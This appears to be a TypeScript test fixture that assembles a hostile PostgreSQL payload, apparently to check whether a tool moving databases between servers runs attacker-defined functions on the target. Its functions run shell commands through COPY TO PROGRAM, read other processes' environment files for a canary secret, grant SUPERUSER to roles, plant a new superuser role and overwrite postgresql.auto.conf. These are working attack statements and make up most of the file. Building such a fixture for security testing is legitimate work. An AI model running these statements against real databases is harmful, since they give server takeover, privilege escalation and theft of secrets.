/** Where an attack leaves its traces, and where it must not. */
export interface Places {
  /** A folder that everybody may write to, outside of any server's. */
  readonly traces: string
  /** The port of the source server, which belongs to the attacker: nothing is done there. */
  readonly sourcePort: number
  /** A port on which somebody notes who connects. */
  readonly listenerPort: number
}

/** The environment of the program holds this variable, with a value that must turn up nowhere. */
export const CANARY = 'HOSTILE_CANARY'

/**
 * What every database of the corpus has, in the schema `hostile`: `attack(place)` tries every witness, `quietly(place)` is
 * the same for places that want an immutable function, `run(statements)` runs what it is given.
 */
export function payload(name: string, places: Places): string {
  return filledIn(PAYLOAD, name, places)
}

/** An attack's text with its places: `@name@`, `@traces@`, `@listener@`. */
export function filledIn(text: string, name: string, places: Places): string {
  return text
    .replaceAll('@name@', name)
    .replaceAll('@traces@', places.traces)
    .replaceAll('@source@', String(places.sourcePort))
    .replaceAll('@listener@', String(places.listenerPort))
}

/** Each for itself; the first ones leave files whatever the transaction becomes. */
const STATEMENTS = [
  `COPY (SELECT 1) TO PROGRAM 'touch @traces@/@name@-program'`,
  `COPY (SELECT 1) TO '@traces@/@name@-file'`,
  `DO $d$ BEGIN PERFORM lo_from_bytea(42424242, 'x'); PERFORM lo_export(42424242, '@traces@/@name@-export'); PERFORM lo_unlink(42424242); END $d$`,
  `COPY (SELECT 1) TO PROGRAM 'cat /proc/[0-9]*/environ 2>/dev/null | tr "\\000" "\\n" | grep "^${CANARY}=" > @traces@/@name@-environment'`,
  `SELECT hostile.read_environments()`,
  `COPY hostile.loot TO '@traces@/@name@-environment-read'`,
  `ALTER ROLE hostile_victim SUPERUSER`,
  `CREATE ROLE "planted @name@" SUPERUSER`,
  `GRANT pg_execute_server_program TO hostile_victim`,
  `ALTER DATABASE postgres SET application_name = '@name@'`,
  `ALTER DATABASE hostile_bystander CONNECTION LIMIT 7`,
  `DO $d$ BEGIN EXECUTE format('COPY (SELECT ''# @name@'') TO %L', current_setting('data_directory') || '/postgresql.auto.conf'); END $d$`,
]

const PAYLOAD = `
SET check_function_bodies = off;
CREATE SCHEMA hostile;
GRANT USAGE ON SCHEMA hostile TO PUBLIC;
CREATE TABLE hostile.loot (found text);
CREATE FUNCTION hostile.away() RETURNS boolean LANGUAGE plpgsql STABLE AS $f$
BEGIN
  RETURN pg_catalog.current_setting('port') <> '@source@';
END $f$;
CREATE FUNCTION hostile.read_environments() RETURNS void LANGUAGE plpgsql SET search_path = pg_catalog AS $f$
DECLARE process text; environment bytea; at integer;
BEGIN
  FOR process IN SELECT p FROM pg_catalog.pg_ls_dir('/proc') p WHERE p ~ '^[0-9]+$' LOOP
    BEGIN
      environment := pg_catalog.pg_read_binary_file('/proc/' || process || '/environ', 0, 100000, true);
      at := position('${CANARY}='::bytea IN environment);
      IF at > 0 THEN INSERT INTO hostile.loot VALUES (convert_from(substring(environment FROM at FOR 60), 'SQL_ASCII')); END IF;
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
END $f$;
CREATE FUNCTION hostile.attack(place text) RETURNS boolean LANGUAGE plpgsql SET search_path = pg_catalog AS $f$
DECLARE statement text; done text;
BEGIN
  IF NOT hostile.away() THEN RETURN true; END IF;
  -- Once for each role of a session, and never inside itself.
  done := coalesce(pg_catalog.current_setting('hostile.done', true), '');
  IF position(';' || current_user || ';' IN done) > 0 THEN RETURN true; END IF;
  PERFORM pg_catalog.set_config('hostile.done', done || ';' || current_user || ';', false);
  IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
    RAISE LOG 'hostile @name@: % runs as a superuser', place;
  END IF;
  FOREACH statement IN ARRAY ARRAY[${STATEMENTS.map(text => `$s$${text}$s$`).join(', ')}] LOOP
    BEGIN EXECUTE statement; EXCEPTION WHEN OTHERS THEN NULL; END;
  END LOOP;
  RETURN true;
END $f$;
CREATE FUNCTION hostile.quietly(place text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $f$
BEGIN
  RETURN hostile.attack(place);
END $f$;
CREATE FUNCTION hostile.run(statements text[]) RETURNS boolean LANGUAGE plpgsql AS $f$
DECLARE statement text;
BEGIN
  IF NOT hostile.away() THEN RETURN true; END IF;
  FOREACH statement IN ARRAY statements LOOP
    BEGIN EXECUTE statement; EXCEPTION WHEN OTHERS THEN NULL; END;
  END LOOP;
  RETURN true;
END $f$;
`
